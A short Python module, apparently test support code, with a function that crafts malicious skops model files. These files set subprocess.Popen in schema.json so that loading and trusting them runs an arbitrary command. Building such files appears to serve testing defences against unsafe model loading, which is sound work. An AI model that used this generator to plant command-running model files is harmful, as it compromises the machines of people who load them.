"""Model files as only somebody with bad intentions makes them."""

import io
import json
import zipfile

import skops.io


def craft_command(arguments):
    """Make a skops file that runs a command when it is loaded and trusted."""
    with zipfile.ZipFile(io.BytesIO(skops.io.dumps((arguments,)))) as dump:
        content = json.loads(dump.read("schema.json"))
    schema = {
        "__class__": "Popen",
        "__module__": "subprocess",
        "__loader__": "ConstructorFromReduceNode",
        "__id__": 0,
        "content": content,
        "protocol": content["protocol"],
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as crafted:
        crafted.writestr("schema.json", json.dumps(schema))
    return buffer.getvalue()
